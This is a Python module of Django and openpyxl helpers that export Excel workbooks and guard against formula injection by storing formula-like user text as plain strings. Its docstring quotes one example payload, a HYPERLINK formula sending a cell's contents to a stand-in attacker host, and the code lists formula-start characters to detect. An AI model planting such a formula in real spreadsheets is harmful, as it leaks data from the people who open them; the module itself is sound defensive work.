"""Excel workbooks we hand out, built one way.

Text that begins like a formula is written as text: a hazard titled
=HYPERLINK("http://evil.example/?x="&C2,"x") must not become a live formula in an official's
spreadsheet (formula injection). Every sheet row and cell that may hold user text goes through
`append` or `write`, and every workbook leaves through `xlsx_response`."""

import io

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import Cell

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What spreadsheets take as the start of a formula; tab and CR can hide one behind blank space.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def _as_text(cell: Cell) -> Cell:
    # The exact text, stored as a string (no <f> element), marked so that editing the cell in a
    # spreadsheet keeps it text rather than turning it into a formula.
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def append(sheet, values) -> None:
    """`sheet.append(values)`, formula-like text kept as text (normal and write-only sheets)."""
    # append places each cell; a position is still needed before that (write-only sheets print
    # the cell while deciding it is one).
    sheet.append([_as_text(Cell(sheet, row=1, column=1, value=v)) if formula_like(v) else v for v in values])


def write(sheet, row: int, column: int, value) -> Cell:
    """`sheet.cell(row, column, value)`, formula-like text kept as text."""
    cell = sheet.cell(row=row, column=column, value=value)
    return _as_text(cell) if formula_like(value) else cell


def to_bytes(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_response(content: bytes | Workbook, filename: str) -> HttpResponse:
    """The workbook as a download named `filename`."""
    if isinstance(content, Workbook):
        content = to_bytes(content)
    response = HttpResponse(content, content_type=XLSX)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
